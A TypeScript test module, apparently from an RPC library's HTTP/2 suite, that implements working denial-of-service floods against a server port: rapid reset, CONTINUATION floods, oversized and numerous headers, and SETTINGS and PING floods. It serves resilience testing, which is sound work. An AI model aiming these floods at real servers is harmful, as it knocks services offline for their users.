import { FrameFlag, FrameType } from "@triptych/rpc/http2/frame.ts";
import { callHeaders } from "../http2/call-headers.ts";
import { block, frame, numberFrame } from "../http2/http2-frames.ts";
import { openRawConnection, type RawClientOptions, type RawConnection } from "../http2/raw-connection.ts";

/** What came of an attack. */
export interface FloodResult {
  /** How many of what the attack is made of were sent, as far as the connections let it. */
  readonly sent: number;
  /** How many connections the server has cut or told to go. */
  readonly cut: number;
}

/** An attack over HTTP/2 that sends as many of something as asked for, on a new connection whenever the server has cut one. */
export type Flood = (port: number, amount: number) => Promise<FloodResult>;

const SAY_HELLO = "/triptych.greeter.v1.GreeterService/SayHello";
/** A call's message: a name, in its envelope. */
const MESSAGE = Buffer.from([0, 0, 0, 0, 5, 0x0a, 3, 0x41, 0x64, 0x61]);
const CANCEL = 8;
/** How many are sent before the other side is read. */
const BATCH = 100;

const headers = callHeaders(SAY_HELLO);
const names = Array.from({ length: 1_000 }, (_, index) => `x-${index}`);
const manyHeaders = callHeaders(
  SAY_HELLO,
  names.map((name) => [name, "1"]),
);
const largeHeader = block([["x-large", "a".repeat(15_000)]]);

/** The same frames again and again, each time for the next stream. Of large ones there are fewer: a share of the amount. */
function repeat(frames: (stream: number) => readonly Buffer[], options: RawClientOptions = {}, share = 1): Flood {
  return async (port, amount) => {
    const wanted = Math.ceil(amount * share);
    let sent = 0;
    let cut = 0;
    while (sent < wanted) {
      using connection = await openRawConnection(port, options);
      for (let stream = 1; sent < wanted && !isOver(connection); ) {
        const batch: Buffer[] = [];
        for (let index = 0; index < BATCH && sent < wanted; index++, stream += 2, sent++) batch.push(...frames(stream));
        await connection.send(...batch);
        await new Promise((resolve) => setImmediate(resolve));
      }
      if (isOver(connection)) cut += 1;
    }
    return { sent, cut };
  };
}

function isOver(connection: RawConnection): boolean {
  return connection.isClosed || connection.goAway() !== undefined;
}

/** The floods by their names. */
export const floods = {
  "rapid reset: calls reset as soon as their headers are sent": repeat((stream) => [
    frame(FrameType.headers, FrameFlag.endHeaders, stream, headers),
    numberFrame(FrameType.rstStream, stream, CANCEL),
  ]),
  "rapid reset: whole calls reset at once": repeat((stream) => [
    frame(FrameType.headers, FrameFlag.endHeaders, stream, headers),
    frame(FrameType.data, FrameFlag.endStream, stream, MESSAGE),
    numberFrame(FrameType.rstStream, stream, CANCEL),
  ]),
  "resets forced out of the server: windows that overflow": repeat((stream) => [
    frame(FrameType.headers, FrameFlag.endHeaders, stream, headers),
    numberFrame(FrameType.windowUpdate, stream, 0x7fff_ffff),
  ]),
  "calls with 1,000 headers": repeat(
    (stream) => [frame(FrameType.headers, FrameFlag.endHeaders | FrameFlag.endStream, stream, manyHeaders)],
    {},
    0.2,
  ),
  "calls with four headers of 15,000 bytes": repeat(
    (stream) => [
      frame(FrameType.headers, FrameFlag.endStream, stream, headers),
      ...[0, 0, 0, FrameFlag.endHeaders].map((flags) => frame(FrameType.continuation, flags, stream, largeHeader)),
    ],
    {},
    0.1,
  ),
  "headers that never end, in CONTINUATION frames": repeat((stream) => [
    stream === 1
      ? frame(FrameType.headers, 0, 1, headers)
      : frame(FrameType.continuation, 0, 1, block([["x-a", "a".repeat(1_000)]])),
  ]),
  "SETTINGS that nobody acknowledges": repeat(() => [frame(FrameType.settings, 0, 0)], { reads: false }),
  "SETTINGS, read": repeat(() => [frame(FrameType.settings, 0, 0)]),
  "PING whose answers are not read": repeat(() => [frame(FrameType.ping, 0, 0, Buffer.alloc(8))], { reads: false }),
  "PING, read": repeat(() => [frame(FrameType.ping, 0, 0, Buffer.alloc(8))]),
  "windows of streams that are not there": repeat((stream) => [numberFrame(FrameType.windowUpdate, stream, 1)]),
  "frames of no known type": repeat(() => [frame(0x7f, 0, 0, Buffer.alloc(100))]),
  "empty DATA frames": repeat((stream) =>
    stream === 1 ? [frame(FrameType.headers, FrameFlag.endHeaders, 1, headers)] : [frame(FrameType.data, 0, 1)],
  ),
} satisfies Record<string, Flood>;
